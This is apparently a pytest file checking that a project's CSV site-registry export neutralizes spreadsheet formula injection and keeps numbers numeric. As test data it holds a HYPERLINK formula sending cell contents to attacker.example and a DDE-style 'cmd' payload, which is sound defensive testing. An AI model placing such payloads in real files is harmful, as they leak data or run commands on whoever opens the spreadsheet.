"""CSV exports open in a spreadsheet as data: a text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or carriage return gets a leading ``'`` (OWASP CSV Injection), numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from plastics_core.method.enrich import site_id
from plastics_core.method.site_registry import build_site_registry, registry_csv_bytes
from plastics_core.storage.csv_safe import FORMULA_STARTS, neutralize_cell, neutralize_frame
from tests import _preview_data as d

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"TPA")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_a_quote(start: str) -> None:
    text = f"{start}1+cmd|' /C calc'!A0"
    assert neutralize_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Jl. Contoh 1, Jakarta", "", " =1", "a=b", "'=already", '{"x": -1}'])
def test_other_text_is_unchanged(value: str) -> None:
    assert neutralize_cell(value) == value


def test_numeric_columns_stay_numeric() -> None:
    df = pd.DataFrame({"lon": [-8.5, 125.1], "n": [-3, 4], "ok": [True, False], "t": ["-8.5", "x"]})
    out = neutralize_frame(df)
    assert (
        out["lon"].tolist() == [-8.5, 125.1]
        and out["n"].tolist() == [-3, 4]
        and out["ok"].tolist() == [True, False]
    )
    assert out["t"].tolist() == ["'-8.5", "x"]  # text that merely looks like a number is still text
    assert df["t"].tolist() == ["-8.5", "x"], "the input frame is not modified"


def _hostile_registry() -> bytes:
    ids = tuple(site_id(lon, lat) for lon, lat in d.site_lonlats())
    sites = d.enriched(ids)  # type: ignore[arg-type]
    sites["address"] = [HYPERLINK, "\t=1+1"]
    sites["name"] = ["@SUM(A1:A9)", "-2+3"]
    sites["lon"] = sites["lon"] * -1  # western hemisphere: negative numbers
    return registry_csv_bytes(build_site_registry({"2023-01-01": (sites, d.contours(("2023-01-01",)))}))


def test_registry_csv_neutralizes_geocoder_and_store_text() -> None:
    rows = list(csv.DictReader(io.StringIO(_hostile_registry().decode("utf-8"))))
    assert sorted(r["address"] for r in rows) == sorted(["'" + HYPERLINK, "'\t=1+1"])
    assert sorted(r["name"] for r in rows) == ["'-2+3", "'@SUM(A1:A9)"]
    for r in rows:
        for column, cell in r.items():
            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)
        assert float(r["lon"]) < 0 and math.isfinite(float(r["lat"]))  # numbers written as numbers
        assert not r["lon"].startswith("'")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
